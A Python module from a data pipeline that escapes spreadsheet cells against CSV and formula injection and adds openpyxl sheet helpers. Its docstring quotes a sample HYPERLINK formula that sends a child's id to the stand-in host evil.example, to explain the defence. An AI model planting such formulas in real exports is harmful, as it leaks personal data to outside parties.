"""Spreadsheet cells that text from an extract cannot turn into formulas.

A team name such as ``=HYPERLINK("http://evil.example/?id="&B4,"Open")`` would otherwise be a
live formula in a workbook, or evaluated by a spreadsheet opening a CSV, and could send a child's
id away. As OWASP's CSV-injection guidance says:

- in a CSV, a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  prefixed with a single quote (a spreadsheet then shows it as text); a number such as ``-3`` or
  ``-1,234.5`` is left as it is, so figures stay figures;
- in a workbook, text is written as a string cell, never a formula (openpyxl's
  ``data_type = "s"``, which otherwise makes any string beginning with ``=`` a formula).

Every CSV and XLSX writer under ``pipelines/lib/publish/`` writes its cells through here. The
openpyxl sheet helpers the workbooks share (widths, print set-up) are at the end.
"""

import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import polars as pl
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# A figure as the outputs write it: optional sign, digits with optional thousands commas,
# optional decimals or exponent, optional per cent sign. A spreadsheet reads it as a number.
_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?")
_DIGIT = re.compile(r"\d")


def csv_text(value: str) -> str:
    """``value`` as a CSV cell that no spreadsheet evaluates as a formula."""
    if value.startswith(FORMULA_LEADS) and not (_NUMBER.fullmatch(value) and _DIGIT.search(value)):
        return "'" + value
    return value


def csv_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text column's cells escaped as ``csv_text`` does; numbers, dates
    and flags are untouched."""
    text_columns = [
        name
        for name, dtype in frame.schema.items()
        if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)
    ]
    if not text_columns:
        return frame
    return frame.with_columns(
        pl.col(name).cast(pl.String).map_elements(csv_text, return_dtype=pl.String, skip_nulls=True)
        for name in text_columns
    )


def write_csv(frame: pl.DataFrame, path: Path, **options: Any) -> None:
    """Write ``frame`` as a CSV whose text cells cannot be evaluated as formulas."""
    csv_frame(frame).write_csv(path, **options)


def openpyxl_cell(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Set an openpyxl cell; a string stays a string cell (openpyxl makes ``=...`` a formula)."""
    cell = ws.cell(row=row, column=column, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def column_widths(ws: Worksheet, widths: Mapping[int, float]) -> None:
    """Set openpyxl column widths, in characters, by column number (1 is A)."""
    for column, width in widths.items():
        ws.column_dimensions[get_column_letter(column)].width = width


# Excel's default font (Calibri 11) is 7 pixels a digit; a column also has 5 pixels of padding.
_DIGIT_PIXELS, _PADDING_PIXELS = 7, 5


def excel_width(characters: float) -> float:
    """The width Excel stores for a column shown ``characters`` wide, as when a width is typed
    in Excel: the characters plus the cell's padding, in 1/256ths of a character."""
    return int((characters * _DIGIT_PIXELS + _PADDING_PIXELS) / _DIGIT_PIXELS * 256) / 256


def print_landscape_a4(ws: Worksheet, *, fit_width: bool = False) -> None:
    """Print the sheet on A4 landscape; ``fit_width``: scaled to one page wide (as many pages
    down as it takes)."""
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    # Narrow side margins leave more of the page to the table (a larger print when fitted).
    ws.page_margins = PageMargins(left=0.4, right=0.4, top=0.6, bottom=0.6, header=0.3, footer=0.3)
    if fit_width:
        ws.sheet_properties.pageSetUpPr.fitToPage = True
        ws.page_setup.fitToWidth = 1
        ws.page_setup.fitToHeight = 0  # any number of pages down
